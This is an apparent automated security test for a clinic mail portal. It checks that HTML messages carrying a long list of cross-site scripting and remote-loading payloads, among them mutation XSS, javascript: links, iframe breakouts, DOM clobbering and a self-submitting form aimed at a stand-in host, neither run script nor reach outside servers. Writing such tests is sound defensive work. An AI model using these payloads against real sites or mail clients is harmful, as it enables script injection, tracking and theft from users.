import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { walk } from '../support/walk.ts'
import { type ServedClinic, servedClinic } from './clinic.ts'
import { choosesPasskey, provesMailbox } from './signing-in.ts'

let clinic: ServedClinic
/** Stands for everyone a hostile message might call. */
let elsewhere: Server
const called: string[] = []

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    called.push(request.url ?? '')
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
  })
  await new Promise<void>(resolve => elsewhere.listen(0, '127.0.0.1', resolve))
  clinic = await servedClinic()
})
afterAll(() => elsewhere.close())

/** What mail is attacked with. HOST is a server that listens; `alert` and `pwned` are noticed. */
const PAYLOADS: Record<string, string> = {
  script: '<script>alert(1);top.pwned=1</script>',
  'script from elsewhere': '<script src="http://HOST/script.js"></script>',
  'image that fails': '<img src=x onerror="alert(1)">',
  'image from elsewhere': '<img src="http://HOST/pixel.gif" srcset="http://HOST/pixel2.gif 2x">',
  'svg on load': '<svg onload="alert(1)"></svg>',
  'svg with script': '<svg><script>alert(1)</script></svg>',
  'svg image': '<svg><image href="http://HOST/svg.png"/><use href="http://HOST/use.svg#a"/></svg>',
  'svg animation': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">Press</text></a></svg>',
  'math mutation': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'template mutation': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'link to script': '<a href="javascript:alert(1)" autofocus onfocus="alert(1)">Press</a>',
  'link to data': '<a href="data:text/html,<script>alert(1)</script>" target="_top">Press</a>',
  'frame with script': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe>',
  'frame from elsewhere': '<iframe src="http://HOST/frame"></iframe><frameset><frame src="http://HOST/frame2"></frameset>',
  'object and embed': '<object data="http://HOST/object"></object><embed src="http://HOST/embed"><applet code="x"></applet>',
  'style that calls': '<style>@import "http://HOST/a.css"; body{background:url(http://HOST/b.png)}</style>',
  'style attribute': '<p style="background:url(http://HOST/c.png);position:fixed;inset:0">Text</p>',
  'old style tricks': '<div style="width:expression(alert(1))" background="http://HOST/d.png">Text</div>',
  'link to a sheet': '<link rel="stylesheet" href="http://HOST/e.css"><link rel="prefetch" href="http://HOST/f">',
  'dns and preconnect': '<link rel="dns-prefetch" href="//HOST"><link rel="preconnect" href="http://HOST">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=http://HOST/refresh">',
  base: '<base href="http://HOST/"><img src="relative.png">',
  'form that sends itself': '<form action="http://HOST/form"><input name="a" autofocus onfocus="this.form.submit()"></form>',
  'video and audio':
    '<video src="http://HOST/v.mp4" poster="http://HOST/p.png" onerror="alert(1)" autoplay></video><audio src="http://HOST/a.mp3">',
  'event handlers':
    '<details open ontoggle="alert(1)"><summary>x</summary></details><body onload="alert(1)"><marquee onstart="alert(1)">',
  'input image': '<input type="image" src="http://HOST/input.png"><button formaction="javascript:alert(1)">Press</button>',
  'clobbering names': '<form id="document" name="cookie"><input name="attributes"></form><img name="getElementById">',
  'end of the frame': '"></iframe><script>alert(1);top.pwned=1</script><iframe srcdoc="',
  'encoded script': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Press</a>',
  'broken tags': '<<script>alert(1);//<</script><img """><script>alert(1)</script>">',
  'odd space': '<img/src=x\nonerror\t=\nalert(1)><svg/onload=alert(1)//',
}

test('no known trick in a message runs anything or calls anyone', { timeout: 240_000 }, async () => {
  const host = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  const recipients = [{ name: 'Ada Lopez', email: 'ada@example.com' }]
  const deposits: [string, string][] = []
  for (const [trick, html] of Object.entries(PAYLOADS)) {
    const message = { subject: trick, text: 'Plain words.', html: `<p>Before ${trick}.</p>${html.replaceAll('HOST', host)}` }
    deposits.push([trick, (await clinic.deposit(message, { recipients })).messages[0]!.id])
  }
  const ada = await walk(clinic.server.origin, { screen: 'desktop' })
  await provesMailbox(ada, clinic)
  await choosesPasskey(ada)

  const { ran, asked } = watch(ada.page)
  const form_token = await ada.page.locator('[name=form_token]').first().inputValue()
  for (const [trick, id] of deposits) {
    // Only what is shown as it was designed has anything of the trick in it, so only that is worth a browser's time.
    const opened = await ada.context.request.post(`/messages/${id}/open`, {
      headers: { origin: clinic.server.origin },
      form: { form_token },
    })
    const plain = await opened.text()
    expect(plain).toContain('Plain words.')
    expect(plain).not.toContain('Before')
    await ada.goTo(`/messages/${id}?view=formatted`)
    const frame = ada.page.frameLocator('iframe')
    await frame.getByText(`Before ${trick}.`).waitFor()
    // Some tricks wait for a finger.
    for (const link of await frame.getByText('Press').all())
      await link.click({ timeout: 1_000, noWaitAfter: true }).catch(ignored)
    await ada.page.waitForTimeout(50)
    if (await ada.page.evaluate(() => 'pwned' in window)) ran.push(`${trick}: pwned`)
    expect(ada.page.url(), trick).toContain(id)
  }
  expect({ ran, asked, called }).toEqual({ ran: [], asked: [], called: [] })
})

test('what would run or call is noticed (else the test above proves nothing)', async () => {
  const host = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
  const { page } = await walk(clinic.server.origin, { screen: 'desktop' })
  const { ran, asked } = watch(page)
  await page.setContent(`<script>alert(1)</script><img src="http://${host}/control.png">`)
  await expect.poll(() => called).toContain('/control.png')
  expect({ ran: ran.length, asked: asked.length }).toEqual({ ran: 1, asked: 1 })
})

/** What runs on a page, and what it asks of anyone but the portal. */
function watch(page: Page): { ran: string[]; asked: string[] } {
  const ran: string[] = []
  const asked: string[] = []
  page.on('dialog', dialog => {
    ran.push(`${page.url()}: ${dialog.message()}`)
    dialog.dismiss().catch(() => ran.push('a dialog that cannot be closed'))
  })
  page.on('request', request => {
    if (!request.url().startsWith(clinic.server.origin) && /^(https?|wss?|ftp):/.test(request.url())) asked.push(request.url())
  })
  return { ran, asked }
}

/** A link that the sanitizer took the teeth out of may not be there to press: that is as well. */
const ignored = (): void => undefined
